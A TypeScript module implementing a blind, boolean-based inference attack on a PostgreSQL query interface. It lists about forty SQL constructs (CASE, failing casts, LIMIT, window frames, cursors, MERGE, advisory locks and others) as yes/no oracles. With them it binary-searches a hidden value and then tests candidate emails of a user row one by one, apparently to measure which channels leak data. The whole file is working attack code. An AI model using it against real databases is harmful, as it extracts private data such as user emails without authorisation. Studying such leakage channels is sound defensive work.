/** Sends statements, one after another, and gives back everything that came. */
export type Send = (steps: readonly string[]) => Promise<string>

/** How to ask a question whose answer is yes or no, as a condition of SQL. */
type Channel = readonly [name: string, ask: (condition: string) => readonly string[]]

const channels: readonly Channel[] = [
  ['WHERE', (c) => [`select id from orgs where ${c}`]],
  ['WHERE of the table', (c) => [`select id from users where ${c} order by id`]],
  ['the select list', (c) => [`select ${c}`]],
  ['CASE', (c) => [`select case when ${c} then 1 else 0 end from orgs`]],
  ['a failing CASE', (c) => [`select case when ${c} then 1 / (id - id) else 1 end from orgs`]],
  ['a failing cast', (c) => [`select (case when ${c} then 'x' else '1' end)::int from orgs`]],
  ['the number of rows', (c) => [`select 1 from generate_series(1, case when ${c} then 2 else 1 end)`]],
  ['rows of the list', (c) => [`select generate_series(1, case when ${c} then 2 else 1 end)`]],
  ['LIMIT', (c) => [`select id from orgs order by id limit (case when ${c} then 1 else 2 end)`]],
  ['OFFSET', (c) => [`select id from orgs order by id offset (case when ${c} then 1 else 2 end)`]],
  ['ORDER BY', (c) => [`select id from orgs order by case when ${c} then id else -id end`]],
  ['GROUP BY', (c) => [`select count(*) from orgs group by case when ${c} then id else 1 end`]],
  ['HAVING', (c) => [`select count(*) from orgs having ${c}`]],
  ['DISTINCT', (c) => [`select count(*) from (select distinct case when ${c} then id else 1 end from orgs) s`]],
  ['FILTER', (c) => [`select count(*) filter (where ${c}) from orgs`]],
  ['a window', (c) => [`select count(*) over (partition by case when ${c} then id else 1 end) from orgs`]],
  ['a frame', (c) => [`select count(*) over (order by id rows (case when ${c} then 1 else 2 end) preceding) from orgs`]],
  ['a join', (c) => [`select count(*) from orgs a join orgs b on a.id = b.id and ${c}`]],
  ['EXCEPT', (c) => [`select true except select ${c}`]],
  ['a sample', (c) => [`select count(*) from orgs tablesample bernoulli (case when ${c} then 100 else 0 end)`]],
  ['a WITH query', (c) => [`with w as materialized (select ${c} as c) select id from orgs, w where w.c`]],
  ['a recursive query', (c) => [`with recursive r as (select 1 as n union all select n + 1 from r where n < 3 and ${c}) select n from r`]],
  ['a failing subquery', (c) => [`select (select id from orgs where ${c} or id = 1)`]],
  ['EXPLAIN ANALYZE', (c) => [`explain (analyze, costs off, timing off, summary off) select 1 from orgs where ${c}`]],
  ['COPY', (c) => [`copy (select id from orgs where ${c}) to stdout`]],
  ['a cursor', (c) => [`begin`, `declare c cursor for select id from orgs where ${c}`, `fetch all from c`, `rollback`]],
  ['EXECUTE', (c) => [`prepare s as select id from orgs where ${c}`, `execute s`, `deallocate s`]],
  ['UPDATE', (c) => [`update orgs set active = active where ${c}`]],
  ['UPDATE SET', (c) => [`begin`, `update orgs set active = ${c}`, `select active from orgs`, `rollback`]],
  ['INSERT … SELECT', (c) => [`begin`, `insert into orgs (id, active) select 90, ${c}`, `select active from orgs where id = 90`, `rollback`]],
  ['a failing INSERT', (c) => [`begin`, `insert into orgs (id) values (case when ${c} then 1 else 91 end)`, `rollback`]],
  ['ON CONFLICT', (c) => [`begin`, `insert into orgs (id) values (case when ${c} then 1 else 91 end) on conflict do nothing`, `rollback`]],
  ['MERGE', (c) => [`begin`, `merge into orgs o using (select 1 as i) s on o.id = s.i and ${c} when matched then do nothing when not matched then insert (id) values (92)`, `rollback`]],
  ['a temporary table', (c) => [`begin`, `create temp table t as select ${c} as c`, `select c from t`, `rollback`]],
  ['a setting', (c) => [`select set_config('app.x', (${c})::text, false)`, `select current_setting('app.x')`]],
  ['a sequence', (c) => [`select setval('counter', case when ${c} then 5 else 6 end)`, `select last_value from counter`]],
  ['an advisory lock', (c) => [`select pg_advisory_lock(1) from orgs where ${c}`, `select count(*) from pg_locks where pid = pg_backend_pid() and locktype = 'advisory'`, `select pg_advisory_unlock_all()`]],
  ['locked rows', (c) => [`select id from orgs where ${c} for share`]],
  ['a function of the text', (c) => [`select query_to_xml('select 1 where ' || ${c}::text, true, false, '')`]],
] // prettier-ignore

/** What an attack came to. */
export interface Attack {
  readonly queries: number
  /** Candidates that it could not rule out. */
  readonly left: readonly string[]
  /** How it ruled the others out: a channel, or `lookup`. */
  readonly gains: ReadonlyMap<string, number>
  /** Everything that it got, but for answers to lookups. */
  readonly transcript: string
}

/**
 * Finds out which of the candidates a value is. It tries a channel with questions whose answers it knows; when it can tell
 * them apart, it halves the candidates by it. What it still does not know in the end, it looks up, one by one.
 */
export async function attack(
  send: Send,
  value: string,
  candidates: readonly string[],
  budget: number,
): Promise<Attack> {
  let left = candidates.toSorted()
  let queries = 0
  const gains = new Map<string, number>()
  const seen: string[] = []
  const gain = (how: string, remaining: readonly string[]): void => {
    if (remaining.length < left.length) gains.set(how, (gains.get(how) ?? 0) + left.length - remaining.length)
    left = [...remaining]
  }
  const put = async (steps: readonly string[]): Promise<string> => {
    queries += 1
    const answer = await send(steps)
    seen.push(answer)
    return answer
  }
  for (const [name, ask] of channels) {
    const [yes, no] = [await put(ask(`'a' < 'b'`)), await put(ask(`'b' < 'a'`))]
    while (left.length > 1 && queries < budget) {
      const middle = left[left.length >> 1] ?? ''
      const answer = await put(ask(`(${value}) collate "C" < '${middle}'`))
      if (yes === no || (answer !== yes && answer !== no)) break
      gain(name, left.filter((candidate) => candidate < middle === (answer === yes)))
    } // prettier-ignore
  }
  for (const candidate of candidates) {
    if (left.length <= 1 || queries >= budget) break
    queries += 1
    const answer = await send([`select 'it is' from users where id = 3 and email = '${candidate}'`])
    if (answer.includes('it is')) gain('lookup', [candidate])
    else if (answer.includes('SELECT 0')) gain('lookup', left.filter((other) => other !== candidate)) // prettier-ignore
  }
  return { queries, left, gains, transcript: seen.join('\n') }
}
